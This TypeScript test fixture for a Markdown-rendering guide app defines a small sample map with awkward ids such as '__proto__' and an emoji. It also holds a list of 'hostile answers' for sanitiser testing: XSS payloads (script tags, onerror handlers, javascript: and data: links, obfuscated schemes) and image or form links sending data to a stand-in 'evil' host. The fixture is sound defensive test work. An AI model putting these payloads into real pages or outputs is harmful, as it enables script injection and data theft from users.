import type { VerbMap } from '../../src/knowledge/verb-map.ts'
import { type Atlas, openAtlas } from '../../src/page/atlas.ts'

/** A small map with awkward names. */
export const smallMap: VerbMap = {
  title: 'A small map',
  verbs: [
    {
      id: 'store',
      order: 1,
      name: 'Store',
      aliases: [],
      purpose: 'Keep',
      meaning: '',
      need: '',
      categories: ['queues'],
    },
    {
      id: 'connect',
      order: 2,
      name: 'Connect',
      aliases: [],
      purpose: 'Speak',
      meaning: '',
      need: '',
      categories: ['events'],
    },
  ],
  categories: [
    {
      id: 'queues',
      name: 'Queues',
      aliases: [],
      verb: 'store',
      purpose: '',
      choice: '',
      needs: [],
      technologies: ['kafka', '__proto__'],
    },
    {
      id: 'events',
      name: 'Events',
      aliases: [],
      verb: 'connect',
      purpose: '',
      choice: '',
      needs: [],
      technologies: ['kafka', 'قاعدة', '🦜'],
    },
  ],
  technologies: [
    {
      id: 'kafka',
      name: 'Kafka',
      aliases: [],
      placements: [
        { verb: 'store', category: 'queues', reason: '', note: '' },
        { verb: 'connect', category: 'events', reason: '', note: '' },
      ],
    },
    technology('__proto__', '__proto__', 'store', 'queues'),
    technology('قاعدة', 'قاعدة', 'connect', 'events'),
    technology('🦜', '🦜 <script>', 'connect', 'events'),
  ],
  overview: null,
  stories: [],
}

/** The small map, ready to be linked to. */
export const atlas: Atlas = openAtlas(smallMap)

function technology(id: string, name: string, verb: string, category: string) {
  return { id, name, aliases: [], placements: [{ verb, category, reason: '', note: '' }] }
}

/** Answers as they should arrive: every kind of Markdown a guide may use. */
export const calmAnswers = [
  '[Kafka](#kafka) has two homes, Fira.\n\nIt rests in [**Store**](#store), because it keeps events. And it lives in **[Connect](#connect)** too.\n\nYou may hear of [something beyond our map](#beyond) here.',
  'Two lists:\n\n1. [**Store**](#store): keep\n2. [**Connect**](#connect): *speak*\n\n   and listen\n\n- one\n  - deep **down**\n- `code` and ``a ` b``\n\nThe end.',
  '## A heading\n\n> A *quiet* word.\n> **And** another.\n\n```js\nconst a = "[x](#kafka)"\n\nconst b = 1\n```\n\nAfter the fence.',
  '| Verb | For |\n|---|---|\n| [**Store**](#store) | memory |\n| **Connect** | speech |\n\nAT&amp;T &amp; ~~gone~~ and a \\* star.\n\n---\n\nDone in 2024, at 2 * 3 * 4.',
  'A ***bold and leaning*** word, _one_ and __two__, array[0] and f(x).\n\nA [قاعدة](#%D9%82%D8%A7%D8%B9%D8%AF%D8%A9) and a [🦜](#🦜), and `[half](#`.',
]

/** What a hostile answer may hold. */
export const hostileAnswers = [
  '<script>alert(1)</script>',
  'a <img src=x onerror=alert(1)> b',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<div style="position:fixed">\n\n<form action="//evil"><input name=getElementById></form>\n\n</div>',
  '<style>@import "//evil"</style>\n\n<iframe src="//evil"></iframe>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '![alt words](https://evil/?q=secret)',
  '![ref][r]\n\n[r]: https://evil/x.png "t"',
  '[ref words][r] and [r]\n\n[r]: javascript:alert(1)',
  '[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](&#106;avascript:alert(1))',
  '[click](java\tscript:alert(1)) [click](vbscript:x) [click](data:text/html,<script>alert(1)</script>)',
  '[click](https://good@evil) [click](//evil) [click](\\\\evil) [click](/api/conversations) [click](?x)',
  '<https://evil/> https://evil/ www.evil.example mail@evil.example <mailto:a@evil>',
  '[off](#nowhere) [proto](#__proto__) [constructor](#constructor) [toString](#toString)',
  '[x](#kafka"onclick="alert(1)) [x](#kafka "t\\" onmouseover=alert(1)")',
  '[![img](https://evil/a.png)](#kafka) [<img src=x onerror=alert(1)>](#kafka)',
  '```html\n<script>alert(1)</script>\n```\n\n```mermaid\ngraph TD; click A "javascript:alert(1)"\n```',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | ![y](//evil) |',
  '- [ ] <input autofocus onfocus=alert(1)>\n- [x] done',
  '[^1]\n\n[^1]: <https://evil/>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
]
